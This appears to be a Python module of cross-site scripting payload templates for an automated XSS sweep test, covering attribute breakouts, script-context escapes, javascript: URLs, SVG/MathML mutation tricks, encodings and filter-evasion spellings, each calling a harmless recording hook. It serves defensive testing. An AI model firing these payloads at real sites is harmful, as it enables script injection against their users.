"""XSS payloads for test_xss_sweep.py.

Each template holds `{n}`, replaced by a number unique to one (payload, form, field) submission, so an
execution names exactly what ran. Every payload calls `xss(n)` or `alert(n)`: the sweep defines both
before any page script runs (window hook) and records each call. They cover the contexts an HTML
page has: element content, double/single/unquoted attributes, URLs, RCDATA (title, textarea),
raw text (style, script), comments, SVG and MathML (mutation XSS), entity and URL encodings,
filter-evasion spellings and template syntax.
"""
from __future__ import annotations

TEMPLATES: list[str] = [
    # Element content.
    "<script>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "<svg onload=xss({n})>",
    "<svg/onload=xss({n})//",
    "<details open ontoggle=xss({n})>",
    "<body onload=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})></select>",
    "<textarea autofocus onfocus=xss({n})></textarea>",
    "<marquee onstart=xss({n})>x</marquee>",
    "<video><source onerror=xss({n})></video>",
    "<audio src=x onerror=xss({n})>",
    "<video src=x onerror=xss({n})>",
    "<object data=x onerror=xss({n})></object>",
    "<img srcset=x onerror=xss({n})>",
    "<image src=x onerror=xss({n})>",
    "<img src onerror=xss({n})>",
    "<img/src=x/onerror=xss({n})>",
    "<img src=`x`onerror=xss({n})>",
    "<img\nsrc=x\nonerror=xss({n})>",
    "<img src=x onerror=xss({n})",
    "<x onclick=xss({n})>click</x>",
    "<input type=image src=x onerror=xss({n})>",
    "<body onpageshow=xss({n})>",
    "<img src=1 onerror=xss({n}) style=display:none>",
    "<SCRIPT>xss({n})</SCRIPT>",
    "<script src=data:,xss({n})></script>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    "<<script>xss({n})//<</script>",
    "<img \"\"\"><script>xss({n})</script>\">",
    # Breaking out of attributes.
    "\"><script>xss({n})</script>",
    "'><script>xss({n})</script>",
    "\"><img src=x onerror=xss({n})>",
    "'><img src=x onerror=xss({n})>",
    "\"><svg onload=xss({n})>",
    "\" autofocus onfocus=\"xss({n})\" x=\"",
    "' autofocus onfocus='xss({n})' x='",
    " autofocus onfocus=xss({n}) ",
    "\" onmouseover=\"xss({n})\" x=\"",
    "\" onfocus=\"xss({n})\" autofocus=\"",
    "\\\"><svg onload=xss({n})>",
    "x\" style=\"background:url(javascript:xss({n}))",
    # Breaking out of RCDATA, raw text and comments.
    "</textarea><script>xss({n})</script>",
    "</title><script>xss({n})</script>",
    "</style><img src=x onerror=xss({n})>",
    "</script><script>xss({n})</script>",
    "--><img src=x onerror=xss({n})>",
    "]]><img src=x onerror=xss({n})>",
    "<!--<img src=\"--><img src=x onerror=xss({n})//\">",
    "</option></select><img src=x onerror=xss({n})>",
    "</noscript><img src=x onerror=xss({n})>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss({n})>\">",
    # URLs.
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})",
    "  javascript:xss({n})",
    "java\tscript:xss({n})",
    "data:text/html,<script>parent.xss({n})</script>",
    "<a href=\"javascript:xss({n})\">x</a>",
    "<a href=\"&#106;avascript:xss({n})\">x</a>",
    "<a href=\"java&#x09;script:xss({n})\">x</a>",
    "<iframe src=\"javascript:parent.xss({n})\"></iframe>",
    "<iframe srcdoc=\"<script>parent.xss({n})</script>\"></iframe>",
    "<iframe src=data:text/html,<script>parent.xss({n})</script>></iframe>",
    "<object data=\"javascript:parent.xss({n})\"></object>",
    "<embed src=\"javascript:parent.xss({n})\">",
    "<form><button formaction=javascript:xss({n})>x</button></form>",
    "<math href=\"javascript:xss({n})\">x</math>",
    "<table><td background=\"javascript:xss({n})\">",
    "<base href=\"javascript:xss({n})//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:xss({n})\">",
    "<link rel=stylesheet href=\"javascript:xss({n})\">",
    "<div style=\"background:url(javascript:xss({n}))\">x</div>",
    "<style>@import 'javascript:xss({n})';</style>",
    # SVG and MathML (mutation XSS).
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=xss({n}) attributeName=x to=1>",
    "<svg><a xlink:href=\"javascript:xss({n})\"><text x=20 y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=xss({n})></foreignObject></svg>",
    "<svg><style><img src=x onerror=xss({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<svg onload=xss&lpar;{n}&rpar;>",
    # Encodings.
    "<img src=x onerror=&#120;&#115;&#115;&#40;{n}&#41;>",
    "<img src=x onerror=\"xss&#40;{n}&#41;\">",
    "<img src=x onerror=&#x78;ss({n})>",
    "&lt;img src=x onerror=xss({n})&gt;",
    "&#60;img src=x onerror=xss({n})&#62;",
    "%3Cimg%20src%3Dx%20onerror%3Dxss({n})%3E",
    "%22%3E%3Cscript%3Exss({n})%3C/script%3E",
    "\\u003cimg src=x onerror=xss({n})\\u003e",
    "\uff1cscript\uff1exss({n})\uff1c/script\uff1e",
    "x\r\n<script>xss({n})</script>",
    "A" * 150 + "<img src=x onerror=xss({n})>",
    # Script contexts and other ways to call.
    "';xss({n});//",
    "\";xss({n});//",
    "'-xss({n})-'",
    "\"-xss({n})-\"",
    "<img src=x onerror=window['xss']({n})>",
    "<img src=x onerror=top.xss({n})>",
    "<img src=x onerror=eval('xs'+'s({n})')>",
    "<img src=x onerror=setTimeout('xss({n})')>",
    "<img src=x:xss onerror=xss({n})>",
    # alert() as the classic proof.
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "\"><svg onload=alert({n})>",
    # Template syntax (no client framework here, but a server template could evaluate it).
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "${{xss({n})}}",
    "#{{xss({n})}}",
]

# The CI lane's reduced set: one per kind of context, the classics first.
REDUCED = [
    "<script>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "\"><img src=x onerror=xss({n})>",
    "' autofocus onfocus='xss({n})' x='",
    "\" autofocus onfocus=\"xss({n})\" x=\"",
    "</textarea><script>xss({n})</script>",
    "javascript:xss({n})",
    "<svg><foreignObject><img src=x onerror=xss({n})></foreignObject></svg>",
    "<img src=x onerror=&#120;&#115;&#115;&#40;{n}&#41;>",
    "<svg onload=alert({n})>",
]


def templates(full: bool) -> list[str]:
    return list(TEMPLATES if full else REDUCED)


def render(template: str, n: int) -> str:
    # Only {n} is a placeholder; literal braces in templates are written doubled ({{ }}).
    return template.format(n=n)
